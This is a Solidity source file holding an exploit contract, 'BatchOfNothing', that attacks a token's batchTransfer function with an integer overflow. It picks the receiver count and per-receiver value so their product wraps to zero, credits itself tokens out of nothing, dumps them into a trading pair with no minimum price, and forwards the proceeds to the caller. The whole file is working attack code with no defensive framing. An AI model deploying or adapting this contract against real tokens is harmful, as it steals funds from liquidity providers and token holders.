// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IBatchToken {
    function batchTransfer(address[] calldata receivers, uint256 value) external returns (bool);

    function approve(address spender, uint256 value) external returns (bool);
}

interface IPair {
    function sellTokens(uint256 tokens, uint256 minEthers) external returns (uint256);
}

/// Pays out of nothing: count * value is a multiple of 2^256. What it needs of it is sold.
contract BatchOfNothing {
    IBatchToken immutable token;
    IPair immutable pair;

    constructor(IBatchToken token_, IPair pair_) {
        token = token_;
        pair = pair_;
    }

    function run(uint256 countBits, uint256 sold) external {
        uint256 count = 1 << countBits;
        address[] memory receivers = new address[](count);
        for (uint256 i = 0; i < count; i++) receivers[i] = i == 0 ? address(this) : address(uint160(0xbad000 + i));
        token.batchTransfer(receivers, 1 << (256 - countBits));
        token.approve(address(pair), sold);
        pair.sellTokens(sold, 0);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
